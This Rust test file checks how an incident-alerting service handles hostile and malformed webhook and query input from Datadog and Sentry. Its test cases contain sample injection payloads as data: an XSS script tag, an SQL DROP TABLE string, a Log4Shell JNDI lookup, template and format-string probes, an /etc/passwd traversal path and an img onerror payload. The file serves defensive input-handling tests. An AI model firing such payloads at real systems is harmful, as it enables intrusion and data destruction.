//! Hostile and malformed input: it is stored as data, truncated visibly, or refused.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use rstest::rstest;
use serde_json::{Value, json};
use tests::{Api, Sandbox, WebhookRequest, random_digits, sentry::Issue, strings};

#[rstest]
#[case::html("<script>alert(1)</script>")]
#[case::sql("'; DROP TABLE incidents; --")]
#[case::jndi("${jndi:ldap://192.0.2.1/a}")]
#[case::templates("{{7*7}} %s %n $TITLE")]
#[case::composed("🏳️‍🌈 ﷽ Z̷a̷l̷g̷o̷")]
#[case::keys("INCIDENT ACTION#01ARZ3NDEKTSV4RRFFQ69G5FAV")]
// SQS accepts these characters only if they are escaped.
#[case::noncharacters("\u{fffe}\u{ffff}\u{feff}\u{fffd}")]
#[tokio::test]
async fn titles_and_messages_are_stored_unchanged(#[case] text: &str) {
    let sandbox = Sandbox::new();
    let alert = sandbox.deliver(&sandbox.monitor().with("title", text).with("body", text)).await.remove(0);
    assert_eq!((&alert["title"], &alert["message"]), (&json!(text), &json!(text)));
    assert_eq!(sandbox.incident_of(&alert).await["incident"]["title"], text);
}

#[rstest]
#[case::direction("\u{202e}right to left\u{202c} zero\u{200b}width", "right to left zero\u{200b}width")]
#[case::lines("line one\nline two\ttabbed", "line one line two tabbed")]
#[case::delete("a\u{7f}b", "ab")]
#[tokio::test]
async fn titles_are_one_line_without_control_and_direction_characters(#[case] text: &str, #[case] title: &str) {
    let sandbox = Sandbox::new();
    let alert = sandbox.deliver(&sandbox.monitor().with("title", text)).await.remove(0);
    assert_eq!(alert["title"], title);
}

#[rstest]
#[case::path("../../etc/passwd")]
#[case::url("a/b?c=d&e#f")]
#[case::html("<b>")]
#[case::percent("100%")]
#[case::keys("service#by_created|x")]
#[case::cyrillic("имя сервиса")]
#[tokio::test]
async fn service_names_with_special_characters_can_be_filtered(#[case] name: &str) {
    let sandbox = Sandbox::new().watching_every_service();
    let service = format!("{name}{}", random_digits(8));
    let alert = sandbox.deliver(&sandbox.monitor().service(&service)).await.remove(0);
    assert_eq!(alert["service"], service.to_lowercase());
    let query = utf8_percent_encode(&service, NON_ALPHANUMERIC);
    assert_eq!(sandbox.api.page(&format!("/incidents?service={query}")).await.total, 1);
    assert_eq!(sandbox.api.page(&format!("/alerts?service={query}")).await.total, 1);
}

#[tokio::test]
async fn a_nul_character_loses_no_other_text() {
    let sandbox = Sandbox::new();
    let webhook = Issue::of(&sandbox).error(sandbox.time).with("/data/error/title", "before\0after");
    let alert = sandbox.deliver(&webhook).await.remove(0);
    let title = alert["title"].as_str().unwrap();
    assert!(title.starts_with("before") && title.ends_with("after"), "{title:?}");
}

#[rstest]
#[case::above_u64(random_digits(24))]
#[case::below_i64(format!("-{}", random_digits(24)))]
#[case::large(format!("{}e290", random_digits(9)))]
#[case::small(format!("0.{}e-290", random_digits(9)))]
#[tokio::test]
async fn numbers_of_any_size_are_accepted(#[case] number: String) {
    let sandbox = Sandbox::new();
    for member in ["id", "alert_id", "date", "priority"] {
        let body = sandbox.monitor().again().with(member, "NUMBER").body().to_string();
        let body = body.replace("\"NUMBER\"", &number);
        sandbox.api.deliver(WebhookRequest::datadog(body)).await.accepted();
    }
    sandbox.alerts_when("all alerts", |alerts| alerts.len() == 4).await;
}

#[rstest]
#[case(json!(null))]
#[case(json!(true))]
#[case(json!(7))]
#[case(json!([]))]
#[case(json!({}))]
#[case(json!([[["deep"]]]))]
#[tokio::test]
async fn datadog_members_of_unexpected_types_are_accepted(#[case] value: Value) {
    let sandbox = Sandbox::new();
    let members = ["title", "body", "transition", "alert_type", "priority", "link", "date", "org", "scope", "hostname"];
    for member in members {
        sandbox.send(&sandbox.monitor().with(member, value.clone())).await;
    }
    sandbox.alerts_when("all alerts", |alerts| alerts.len() == members.len()).await;
}

#[rstest]
#[case(json!(null))]
#[case(json!(true))]
#[case(json!(7))]
#[case(json!([]))]
#[case(json!({}))]
#[case(json!("text"))]
#[tokio::test]
async fn sentry_members_of_unexpected_types_are_accepted_ignored_or_quarantined(#[case] value: Value) {
    let sandbox = Sandbox::new();
    for pointer in ["/data", "/data/error", "/data/error/issue_id", "/data/error/tags", "/data/error/level", "/action"]
    {
        let webhook = Issue::of(&sandbox).error(sandbox.time).with(pointer, value.clone());
        let (status, body) = sandbox.api.deliver(&webhook).await.receipt();
        assert!(["accepted", "quarantined", "ignored"].contains(&status.as_str()), "{pointer}: {body}");
    }
}

#[tokio::test]
async fn a_body_that_is_nested_100_levels_deep_is_read() {
    let sandbox = Sandbox::new();
    let deep = (0..100).fold(json!("bottom"), |inner, _| json!([inner]));
    let webhook = Issue::of(&sandbox).error(sandbox.time).with("/data/error/metadata", deep);
    assert_eq!(sandbox.deliver(&webhook).await.len(), 1);
}

#[tokio::test]
async fn of_a_member_that_comes_twice_the_last_counts() {
    let sandbox = Sandbox::new();
    let body = sandbox.monitor().with("title", "last").body().to_string();
    let doubled = format!("{{\"title\":\"first\",{}", &body[1..]);
    let alert = sandbox.deliver(WebhookRequest::datadog(doubled)).await.remove(0);
    assert_eq!(alert["title"], "last");
}

#[tokio::test]
async fn texts_within_the_limits_are_kept_whole() {
    let sandbox = Sandbox::new();
    let (title, message) = ("ü".repeat(490), "é".repeat(3_990));
    let monitor = sandbox.monitor().with("title", title.clone()).with("body", message.clone());
    let alert = sandbox.deliver(&monitor).await.remove(0);
    assert_eq!((&alert["title"], &alert["message"]), (&json!(title), &json!(message)));
}

#[tokio::test]
async fn longer_texts_are_truncated_visibly() {
    let sandbox = Sandbox::new();
    let monitor = sandbox.monitor().with("title", "👀".repeat(5_000)).with("body", "ü".repeat(50_000));
    let alert = sandbox.deliver(&monitor).await.remove(0);
    for member in ["title", "message"] {
        let text = alert[member].as_str().unwrap();
        assert!(text.ends_with("…[truncated]"), "{member}: {text}");
    }
}

#[tokio::test]
async fn forty_tags_are_kept() {
    let sandbox = Sandbox::new();
    let mut tags = sandbox.monitor().tags();
    tags.extend((0..40).map(|number| format!("shard:{number}")));
    let alert = sandbox.deliver(&sandbox.monitor().with("tags", tags.clone())).await.remove(0);
    assert_eq!(strings(&alert["tags"]), tags);
}

#[tokio::test]
async fn twenty_thousand_tags_are_truncated_visibly() {
    let sandbox = Sandbox::new();
    let mut tags = sandbox.monitor().tags();
    tags.extend((0..20_000).map(|number| format!("flood:{number}")));
    let alert = sandbox.deliver(&sandbox.monitor().with("tags", tags)).await.remove(0);
    let tags = strings(&alert["tags"]);
    assert!((20..=100).contains(&tags.len()) && tags.last().is_some_and(|tag| *tag == "…[truncated]"), "{tags:?}");
}

#[tokio::test]
async fn names_of_any_length_are_accepted() {
    let sandbox = Sandbox::new().watching_every_service();
    let long = format!("{}{}", random_digits(10), "s".repeat(5_000));
    let monitor = sandbox
        .monitor()
        .service(&long)
        .tag("team", &long)
        .with("alert_cycle_key", long.clone())
        .with("alert_id", long.clone())
        .with("id", long.clone())
        .with("link", format!("https://app.datadoghq.com/{long}"));
    let alert = sandbox.deliver(&monitor).await.remove(0);
    assert!(alert["incident_id"].is_string());
}

#[rstest]
#[case("service=%")]
#[case("service=%zz")]
#[case("service=%ff%fe")]
#[case("service=%00")]
#[case("service=a;b")]
#[case("&&&")]
#[case("=")]
#[case("=x")]
#[case("%00=1")]
#[case("service[]=x")]
#[case("limit=%31")]
#[case("service=a+b")]
#[tokio::test]
async fn a_malformed_query_string_gets_200_or_400(#[case] query: &str, #[values("/incidents", "/alerts")] list: &str) {
    let answer = Api::shared().get(&format!("{list}?{query}")).await;
    assert!([200, 400].contains(&answer.status), "{} {}", answer.status, answer.text());
}

#[tokio::test]
async fn two_thousand_values_of_a_filter_get_an_answer() {
    let query = format!("service={}", "a,".repeat(2_000) + "a");
    let answer = Api::shared().get(&format!("/incidents?{query}")).await;
    assert!([200, 400, 414].contains(&answer.status), "{}", answer.status);
}

#[tokio::test]
async fn an_error_reveals_no_internals() {
    let sandbox = Sandbox::new();
    let api = &sandbox.api;
    for answer in [
        api.get("/incidents?cursor=%00").await,
        api.get("/incidents/%00").await,
        api.post(&WebhookRequest::datadog("{")).await,
        api.deliver(WebhookRequest::datadog("{")).await,
        api.deliver(WebhookRequest::sentry("issue", "[]")).await,
    ] {
        let text = answer.text().to_lowercase();
        for word in ["dynamodb", "panicked", "src/", ".rs:", "serde", "local-datadog", "local-sentry", "table"] {
            assert!(!text.contains(word), "{word} in {text}");
        }
    }
}

#[tokio::test]
async fn quarantined_bodies_are_stored_unchanged() {
    let api = Api::shared();
    let body =
        json!({ "action": "created", "data": "<img src=x onerror=alert(1)>", "n": random_digits(12) }).to_string();
    let delivery_id = api.deliver(WebhookRequest::sentry("issue", body.clone())).await.quarantined();
    let entry = crate::quarantine::entries_of(&api, &[delivery_id]).await.remove(0);
    assert_eq!(entry["body"], body);
}
